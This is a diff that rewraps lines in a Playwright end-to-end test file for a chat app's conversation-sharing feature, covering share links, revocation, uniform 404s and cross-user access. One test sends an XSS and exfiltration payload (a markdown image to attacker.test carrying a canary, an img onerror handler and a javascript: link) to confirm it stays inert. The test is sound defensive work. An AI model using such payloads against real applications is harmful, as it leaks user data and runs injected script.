@@ -1,6 +1,15 @@
 import { type Browser, expect, type Page, test } from '@playwright/test';
 import { APP_URL } from '../playwright.config';
-import { ADMIN, assistantMessages, BOB, conversationIdFromUrl, ensureUser, originHeaders, send, signIn } from './helpers';
+import {
+  ADMIN,
+  assistantMessages,
+  BOB,
+  conversationIdFromUrl,
+  ensureUser,
+  originHeaders,
+  send,
+  signIn,
+} from './helpers';
 
 /**
  * The canary is only ever a tool ARGUMENT: the typed text holds the JSON escape `\u0043` ("C"), so the
@@ -21,7 +30,10 @@ async function chatWithTool(page: Page, text = TOOL_MESSAGE): Promise<string> {
 }
 
 /** "Share" → (options) → "Create link"; answers the link's URL. */
-async function createLink(page: Page, opts: { toolDetails?: boolean; myName?: boolean } = {}): Promise<string> {
+async function createLink(
+  page: Page,
+  opts: { toolDetails?: boolean; myName?: boolean } = {},
+): Promise<string> {
   const dialog = page.getByRole('dialog', { name: 'Share conversation' });
   if (!(await dialog.isVisible())) await page.getByRole('button', { name: 'Share', exact: true }).click();
   if (opts.toolDetails) await dialog.getByRole('checkbox', { name: 'Include tool details' }).check();
@@ -41,7 +53,10 @@ test.beforeEach(async ({ page }) => {
   await signIn(page, ADMIN);
 });
 
-test('S14/S15: a share is a public, read-only snapshot: no leaks, private headers, revoke, re-share, delete', async ({ page, browser }) => {
+test('S14/S15: a share is a public, read-only snapshot: no leaks, private headers, revoke, re-share, delete', async ({
+  page,
+  browser,
+}) => {
   const id = await chatWithTool(page);
   const url = await createLink(page);
 
@@ -98,7 +113,9 @@ test('S14/S15: a share is a public, read-only snapshot: no leaks, private header
   await expect(anon.locator('[data-role]')).toHaveCount(0);
   // The first link lives on until it is revoked itself.
   expect((await anon.goto(url))?.status()).toBe(200);
-  const revoke = await page.request.delete(`/api/shares/${url.split('/').pop()}`, { headers: originHeaders() });
+  const revoke = await page.request.delete(`/api/shares/${url.split('/').pop()}`, {
+    headers: originHeaders(),
+  });
   expect(revoke.status()).toBe(204);
   expect((await anon.goto(url))?.status()).toBe(404);
 
@@ -113,7 +130,10 @@ test('S14/S15: a share is a public, read-only snapshot: no leaks, private header
   await anon.context().close();
 });
 
-test('S13: probes of the share route (conversation id, a flipped token, junk) all get the same 404', async ({ page, browser }) => {
+test('S13: probes of the share route (conversation id, a flipped token, junk) all get the same 404', async ({
+  page,
+  browser,
+}) => {
   const id = await chatWithTool(page);
   const url = await createLink(page);
   const token = url.split('/').pop()!;
@@ -127,7 +147,10 @@ test('S13: probes of the share route (conversation id, a flipped token, junk) al
   await anon.context().close();
 });
 
-test('S15: only with "Include tool details" and "Show my name" does the share show arguments, result and the owner name', async ({ page, browser }) => {
+test('S15: only with "Include tool details" and "Show my name" does the share show arguments, result and the owner name', async ({
+  page,
+  browser,
+}) => {
   await chatWithTool(page);
   const url = await createLink(page, { toolDetails: true, myName: true });
   const anon = await anonymousPage(browser);
@@ -148,14 +171,23 @@ test('S15: only with "Include tool details" and "Show my name" does the share sh
   await expect(row.getByRole('textbox', { name: /Share link/ })).toHaveValue(url);
   await expect(row).toContainText('Tool details included');
   await row.getByRole('button', { name: 'Revoke link' }).click();
-  await page.getByRole('dialog', { name: 'Revoke link?' }).getByRole('button', { name: 'Revoke link' }).click();
+  await page
+    .getByRole('dialog', { name: 'Revoke link?' })
+    .getByRole('button', { name: 'Revoke link' })
+    .click();
   await expect(row).toHaveCount(0);
   expect((await page.request.get(url)).status()).toBe(404);
 });
 
-test('S8/S9: images and scripts in a shared answer stay inert on the share page', async ({ page, browser }) => {
+test('S8/S9: images and scripts in a shared answer stay inert on the share page', async ({
+  page,
+  browser,
+}) => {
   await page.goto('/');
-  await send(page, 'Pic [[say:![a](https://attacker.test/p.png?d=CANARY) <img src="https://attacker.test/i.png" onerror="alert(1)"> [x](javascript:alert(1))]]');
+  await send(
+    page,
+    'Pic [[say:![a](https://attacker.test/p.png?d=CANARY) <img src="https://attacker.test/i.png" onerror="alert(1)"> [x](javascript:alert(1))]]',
+  );
   await expect(assistantMessages(page).last()).toContainText('Open image');
   await page.goto(page.url());
   const url = await createLink(page);
@@ -178,14 +210,20 @@ test('S8/S9: images and scripts in a shared answer stay inert on the share page'
   await anon.context().close();
 });
 
-test("S16: another user can neither share nor export the admin's chat, but can continue from a share", async ({ page, browser }) => {
+test("S16: another user can neither share nor export the admin's chat, but can continue from a share", async ({
+  page,
+  browser,
+}) => {
   await ensureUser(page.request, BOB);
   const id = await chatWithTool(page);
   const url = await createLink(page);
 
   const bobContext = await browser.newContext({ baseURL: APP_URL });
   await signIn(bobContext, BOB);
-  const share = await bobContext.request.post(`/api/conversations/${id}/share`, { data: {}, headers: originHeaders() });
+  const share = await bobContext.request.post(`/api/conversations/${id}/share`, {
+    data: {},
+    headers: originHeaders(),
+  });
   expect(share.status()).toBe(404);
   expect((await bobContext.request.get(`/api/conversations/${id}/export?format=md`)).status()).toBe(404);
   expect((await bobContext.request.get(`/api/conversations/${id}/export?format=json`)).status()).toBe(404);
